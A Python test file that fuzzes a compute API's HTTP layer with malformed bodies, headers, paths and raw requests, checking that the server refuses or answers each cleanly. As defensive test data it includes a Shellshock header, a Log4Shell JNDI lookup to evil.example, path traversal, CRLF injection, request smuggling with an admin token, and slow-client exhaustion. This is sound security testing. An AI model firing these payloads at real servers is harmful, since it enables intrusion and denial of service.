"""The HTTP edge under both servers: malformed lines, headers, lengths, bodies; slow and greedy clients.

What reaches the API is answered in its own words; what does not even parse is refused by the server below it.
"""

from __future__ import annotations

import contextlib
import resource
import socket
import time
from collections.abc import Iterator

import hypothesis
import pytest
from hypothesis import strategies as st

from tests.security.answers import complaint
from tests.security.process import OwnProcess, own_process
from tests.security.raw_http import RawAnswer, converse, request
from tests.support.cloud import eventually

LIMIT = 114688
GROWTH_BYTES = 80 << 20
BOOT = b'{"server": {"name": "x", "imageRef": "%s", "flavorRef": "1", "networks": "none"}}' % (b"0" * 8)


@pytest.fixture(scope="module", params=["eventlet", "threading"])
def cloud(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[OwnProcess]:
    with own_process(tmp_path_factory.mktemp("edge"), mode=request.param) as running:
        yield running


def judged(answers: list[RawAnswer], data: bytes) -> None:
    """Fail unless every answer is one of ours, or the plain refusal of a server that could not read on."""
    for answer in answers:
        ours = "x-compute-request-id" in answer.headers
        if ours:
            said = complaint(answer.status, answer.headers, answer.body)
            assert said is None, f"{data[:300]!r}: {said}"
        else:
            assert 400 <= answer.status < 500 or answer.status in (100, 501, 505), f"{data[:300]!r}: {answer}"
            assert len(answer.body) < 1000 and b"Traceback" not in answer.body


def post(body: bytes, **headers: bytes) -> bytes:
    more = {name.replace("_", "-"): value for name, value in headers.items()}
    return request("POST", "/v2.1/servers", body, headers=more)


DEEP = 100_000
BODIES = {
    "not utf-8": b'{"server": {"name": "\xff\xfe"}}',
    "utf-16": '{"server": {}}'.encode("utf-16"),
    "a mark before": b"\xef\xbb\xbf" + BOOT,
    "something after": BOOT + b"x",
    "twice": BOOT + BOOT,
    "blanks": b"   \r\n ",
    "lists without end": b"[" * DEEP,
    "objects without end": b'{"a":' * 20_000,
    "deep, but whole": b"[" * 50_000 + b"]" * 50_000,
    "deep in a place": b'{"server": {"metadata": ' + b"[" * 40_000 + b"]" * 40_000 + b"}}",
    "no number": b'{"server": {"min_count": NaN}}',
    "no end": b'{"server": {"min_count": Infinity}}',
    "huge float": b'{"server": {"min_count": 1e999}}',
    "small float": b'{"server": {"min_count": 1e-999}}',
    "huge int": b'{"server": {"min_count": ' + b"9" * 100_000 + b"}}",
    "large int": b'{"server": {"min_count": 18446744073709551616, "name": "x"}}',
    "int as text": b'{"server": {"min_count": "' + b"9" * 100_000 + b'"}}',
    "float as text": b'{"server": {"min_count": "1e309", "max_count": "nan", "name": "x"}}',
    "other digits": '{"server": {"min_count": "٣", "name": "x"}}'.encode(),
    "keys twice": b'{"server": {"name": "a", "name": "b"}, "server": {}}',
    "half a character": b'{"server": {"name": "\\ud800"}}',
    "nul": b'{"server": {"name": "a\\u0000b"}}',
    "a raw nul": b'{"server": {"name": "a\0b"}}',
    "no object": b"7",
    "nothing": b"null",
    "bare word": b"server",
    "one quote": b"'server'",
    "xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "b">]><server name="&b;"/>',
    "many keys": b'{"server": {' + b",".join(b'"k%d": 1' % i for i in range(9000)) + b"}}",
    "many values": b'{"server": {"metadata": {"k": "' + b"v" * 100_000 + b'"}}}',
    "prototype": b'{"__proto__": {"admin": true}, "server": {"__class__": 1}}',
}


@pytest.mark.parametrize("body", BODIES.values(), ids=BODIES)
def test_bodies_that_cannot_be_meant_are_400(cloud: OwnProcess, body: bytes) -> None:
    for path in ("/v2.1/servers", "/v2/servers", "/v2.1/servers/x/action"):
        data = request("POST", path, body)
        (answer,) = converse(cloud.port, data)
        judged([answer], data)
        assert answer.status in (400, 404), answer
        assert list(answer.headers)  # the connection was not just dropped


HEADERS: dict[str, dict[str, bytes]] = {
    "xml": {"Content-Type": b"application/xml"},
    "form": {"Content-Type": b"multipart/form-data; boundary=x"},
    "charset": {"Content-Type": b"application/json; charset=utf-16"},
    "long type": {"Content-Type": b"a" * 6000},
    "odd type": {"Content-Type": b"\xff\xfe/;;;="},
    "version of bytes": {"OpenStack-API-Version": b"compute \xff\xfe"},
    "huge version": {"OpenStack-API-Version": b"compute 2." + b"9" * 6000},
    "other digits": {"OpenStack-API-Version": "compute 2.٣".encode()},
    "many services": {"OpenStack-API-Version": b"a 1," * 1500 + b"compute 2.1"},
    "no version": {"OpenStack-API-Version": b"compute", "X-OpenStack-Nova-API-Version": b"-1"},
    "token of bytes": {"X-Auth-Token": b"\xff\xfe:\xff"},
    "no token": {"X-Auth-Token": b""},
    "long token": {"X-Auth-Token": b"x" * 7000},
    "request id": {"X-OpenStack-Request-ID": b"req-" + b"\xff" * 36},
    "another host": {"Host": b"evil.example:99999999"},
    "no host": {"Host": b""},
    "broken host": {"Host": b"[::1"},
    "host of bytes": {"Host": b"\xff\xfe"},
    "origin": {"Origin": b"\xff://\xfe"},
    "forwarded": {"X-Forwarded-For": b"1.2.3.4" * 500, "X-Forwarded-Host": b"evil.example"},
    "accept": {"Accept": b"application/json;q=" + b"9" * 5000, "Accept-Encoding": b"\xff"},
    "range": {"Range": b"bytes=0-" + b",0-" * 1000},
    "expect": {"Expect": b"something-else"},
    "upgrade": {"Upgrade": b"h2c", "HTTP2-Settings": b"AAMAAABkAAQCAAAAAAIAAAAA"},
    "many": {f"X-Header-{number}": b"x" * 50 for number in range(400)},
    "one too long": {"X-Long": b"x" * 300_000},
    "shell": {"User-Agent": b"() { :;}; touch /tmp/pwned", "X-Log": b"${jndi:ldap://evil.example/a}"},
}


@pytest.mark.parametrize("headers", HEADERS.values(), ids=HEADERS)
def test_odd_headers_are_answered(cloud: OwnProcess, headers: dict[str, bytes]) -> None:
    for data in (request(headers=headers), request("POST", "/v2.1/servers", BOOT, headers=headers)):
        judged(converse(cloud.port, data), data)


PATHS = [
    b"/v2.1/servers/%zz",
    b"/v2.1/servers/%ff%fe",
    b"/v2.1/servers/%00",
    b"/v2.1/servers/\xff\xfe",
    b"/v2.1/servers/..%2f..%2fetc%2fpasswd",
    b"/v2.1/../../etc/passwd",
    b"/v2.1/servers/%",
    b"//v2.1//servers//",
    b"/v2.1/" + b"servers/" * 3000,
    b"/v2.1/servers/" + b"a" * 7000,
    b"/v2.1/servers/" + b"%20" * 2000,
    b"/v2.1/servers?name=%ff",
    b"/v2.1/servers?name=%00",
    b"/v2.1/servers?limit=" + b"9" * 6000,
    b"/v2.1/servers?limit=1e5",
    b"/v2.1/servers?limit=%D9%A3",
    b"/v2.1/servers?limit=1&limit=-1",
    b"/v2.1/servers?" + b"&".join([b"name=a"] * 900),
    b"/v2.1/servers?" + b"&" * 7000,
    b"/v2.1/servers?" + b"=" * 7000,
    b"/v2.1/servers?marker=" + b"a" * 7000,
    b"/v2.1/servers?sort_key=%ff",
    b"/v2.1/servers?name=%28%5B",
    b"/v2.1/servers?name=" + b"%28" * 2000 + b"%29" * 2000,
    b"/v2.1/servers?changes-since=9999999999999999999",
    b"/v2.1/servers?changes-since=0001-01-01T00:00:00%2B23:59",
    b"/v2.1/servers?power_state=%C2%B2",
    b"/v2.1/servers?launch_index=-" + b"-" * 100,
    b"/v2.1/flavors?minRam=%C2%B2",
    b"/v2.1/flavors?minDisk=" + b"9" * 5000,
    b"/v2.1/os-keypairs/%F0%9F%92%A9?user_id=%FF",
    b"/%ff",
    b"/v2.1/%2e%2e/",
    b"http://evil.example/v2.1/servers",
    b"*",
    b"",
    b"/v2.1/servers#fragment",
    b"/v2.1/servers;a=b",
]


@pytest.mark.parametrize("path", PATHS, ids=lambda path: repr(path[:40]))
def test_odd_paths_and_queries_are_answered(cloud: OwnProcess, path: bytes) -> None:
    for version in (b"HTTP/1.1", b"HTTP/1.0"):
        for method in ("GET", "DELETE"):
            data = request(method, path, version=version)
            judged(converse(cloud.port, data), data)


CHUNKED = request("POST", headers={"Transfer-Encoding": b"chunked"})
RAW = {
    "nothing": b"",
    "no line": b"\r\n\r\n",
    "old": b"GET /\r\n",
    "a word": b"HELLO\r\n\r\n",
    "another protocol": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200),
    "http 2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "future": request(version=b"HTTP/9.9"),
    "no version": b"GET /v2.1/servers HTTP/\r\nHost: x\r\n\r\n",
    "odd method": request("FR\xc3\x96B"),
    "lower method": request("get"),
    "long method": request("A" * 10_000),
    "trace": request("TRACE"),
    "connect": request("CONNECT", "evil.example:443"),
    "nul in a header": request(headers={"X-Auth-Token": b"a\0b"}),
    "a line break in a header": request(headers={"X-A": b"a\r\nX-Auth-Token: admin:admin"}),
    "folded": request(headers={"X-A": b"a\r\n b"}),
    "no colon": b"GET /v2.1/servers HTTP/1.1\r\nHost\r\n\r\n",
    "space before colon": b"GET /v2.1/servers HTTP/1.1\r\nHost : x\r\nConnection: close\r\n\r\n",
    "negative length": request("POST", body=b"", headers={"Content-Length": b"-1"}),
    "length of words": request("POST", body=b"", headers={"Content-Length": b"many"}),
    "length of other digits": request("POST", body=b"x", headers={"Content-Length": "١".encode()}),
    "huge length": request("POST", body=b"{}", headers={"Content-Length": b"9" * 30}),
    "length of two": request("POST", body=b"{}", headers={"Content-Length": b"2, 2"}),
    "length twice": request("POST", headers={"Content-Length": b"2\r\nContent-Length: 4"}) + b"{}{}",
    "length and chunks": request(
        "POST",
        headers={"Content-Length": b"4", "Transfer-Encoding": b"chunked", "Content-Type": b"text/plain"},
    )
    + b"0\r\n\r\nGET /v2.1/flavors HTTP/1.1\r\n\r\n",
    "body too short": request("POST", body=b"{}", headers={"Content-Length": b"100"}),
    "chunks": CHUNKED + b"2\r\n{}\r\n0\r\n\r\n",
    "chunk of words": CHUNKED + b"zz\r\n{}\r\n0\r\n\r\n",
    "negative chunk": CHUNKED + b"-1\r\n{}\r\n0\r\n\r\n",
    "huge chunk": CHUNKED + b"f" * 16 + b"\r\n{}",
    "chunk size without end": CHUNKED + b"0" * 200_000,
    "chunk extension": CHUNKED + b"2;" + b"a" * 9000 + b"\r\n{}\r\n0\r\n\r\n",
    "trailers": CHUNKED + b"0\r\nX-Auth-Token: admin:admin\r\n\r\n",
    "unfinished chunks": CHUNKED + b"5\r\n{",
    "too long in chunks": CHUNKED
    + b"".join(b"%x\r\n%s\r\n" % (4096, b"x" * 4096) for _ in range(60))
    + b"0\r\n\r\n",
    "odd encoding": request("POST", body=b"{}", headers={"Transfer-Encoding": b"gzip, chunked"}),
    "too long": request("POST", body=b"x" * (LIMIT + 1)),
    "compressed": request("POST", body=b"\x1f\x8b" + bytes(50), headers={"Content-Encoding": b"gzip"}),
}


@pytest.mark.parametrize("data", RAW.values(), ids=RAW)
def test_what_is_hardly_http_is_refused_or_answered(cloud: OwnProcess, data: bytes) -> None:
    judged(converse(cloud.port, data), data)
    assert cloud.serves()


def test_a_line_break_in_a_value_makes_no_header_of_ours(cloud: OwnProcess) -> None:
    for value in ("%0d%0aX-Evil:%201", "%0aX-Evil:%201", "%0d%0a%0d%0a<html>"):
        for answer in converse(
            cloud.port, request(path=f"/v2.1/servers/{value}?marker={value}&name={value}")
        ):
            assert "x-evil" not in answer.headers
        for answer in converse(cloud.port, request("GET", f"/{value}")):
            assert "x-evil" not in answer.headers


def test_a_line_of_requests_is_answered_in_order(cloud: OwnProcess) -> None:
    keep = {"Connection": b"keep-alive"}
    line = b"".join(
        request(path=path, headers=keep) for path in ("/v2.1/servers", "/v2.1/nothing", "/v2.1/flavors") * 10
    )
    answers = converse(cloud.port, line + request())
    assert [a.status for a in answers] == [200, 404, 200] * 10 + [200]


def test_what_follows_a_refused_body_is_no_request(cloud: OwnProcess) -> None:
    """A body that nobody reads must not be taken for the next request of the connection."""
    smuggled = request("DELETE", "/v2.1/flavors/1", headers={"X-Auth-Token": b"admin:admin"})
    for method, token in (
        ("POST", b""),
        ("POST", b"demo:demo"),
        ("GET", b"demo:demo"),
        ("DELETE", b"demo:demo"),
    ):
        for path in ("/v2.1/servers", "/v2.1/nothing", "/", "/v2/servers"):
            headers = {"X-Auth-Token": token, "Connection": b"keep-alive", "Content-Type": b"application/xml"}
            answers = converse(cloud.port, request(method, path, smuggled, headers=headers) + request())
            assert len(answers) <= 2, answers
            judged(answers, smuggled)
    assert cloud.admin.ask("GET", "/flavors/1").status == 200


def test_slow_clients_keep_nobody_waiting(cloud: OwnProcess) -> None:
    with contextlib.ExitStack() as stack:
        for number in range(300):
            client = stack.enter_context(socket.create_connection(("127.0.0.1", cloud.port), 10))
            unfinished = request("POST", body=BOOT, headers={"X-N": b"%d" % number})
            client.sendall(unfinished[: len(unfinished) - 10 if number % 2 else 40])
        began = time.monotonic()
        for _ in range(10):
            assert cloud.serves()
        assert time.monotonic() - began < 10
    eventually(lambda: cloud.descriptors() < 150, timeout_s=30)


def test_a_lack_of_descriptors_ends_with_its_cause(cloud: OwnProcess) -> None:
    pid, before = cloud.process.pid, resource.prlimit(cloud.process.pid, resource.RLIMIT_NOFILE)
    most = cloud.descriptors() + 20
    resource.prlimit(pid, resource.RLIMIT_NOFILE, (most, before[1]))
    try:
        with contextlib.ExitStack() as stack:
            # As many as the process may have at all: it may just be closing those of the tests before.
            for _ in range(most + 40):
                stack.enter_context(socket.create_connection(("127.0.0.1", cloud.port), 10))
            eventually(lambda: "No connection can be taken" in cloud.log)
            written = cloud.log_bytes()
            time.sleep(0.5)
            assert cloud.log_bytes() - written < 10_000
    finally:
        resource.prlimit(pid, resource.RLIMIT_NOFILE, before)
    eventually(cloud.serves)


TEXT = st.text(max_size=40) | st.sampled_from(["", "%", "../", "\r\n", "a" * 3000, "\U0010ffff", "-1", "1e9"])
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | TEXT,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(TEXT, inner, max_size=4),
    max_leaves=12,
)


@hypothesis.settings(
    max_examples=60,
    derandomize=True,
    database=None,
    deadline=None,
    suppress_health_check=list(hypothesis.HealthCheck),
    phases=[hypothesis.Phase.generate],
)
@hypothesis.given(
    method=st.sampled_from(["GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS"]),
    path=st.lists(
        st.sampled_from(["servers", "detail", "action", "os-keypairs", "flavors"]) | TEXT, max_size=4
    ),
    query=st.lists(
        st.tuples(st.sampled_from(["name", "limit", "marker", "sort_key", "tags"]) | TEXT, TEXT), max_size=4
    ),
    header=st.binary(max_size=40),
    body=st.binary(max_size=60),
)
def test_whatever_is_sent(
    cloud: OwnProcess, method: str, path: list[str], query: list[tuple[str, str]], header: bytes, body: bytes
) -> None:
    from urllib.parse import quote, urlencode

    place = "/v2.1/" + "/".join(quote(part.encode("utf-8", "replace")) for part in path)
    place += "?" + urlencode(query, errors="replace")
    value = header.translate(None, b"\r\n")
    data = request(
        method, place[:7000], body, headers={"X-Service-Token": value, "OpenStack-API-Version": value}
    )
    if method == "HEAD":
        return
    judged(converse(cloud.port, data), data)


def test_after_all_that_it_is_well(cloud: OwnProcess) -> None:
    assert cloud.serves()
    assert "Traceback" not in cloud.log
    assert cloud.resident_bytes() < 400 << 20
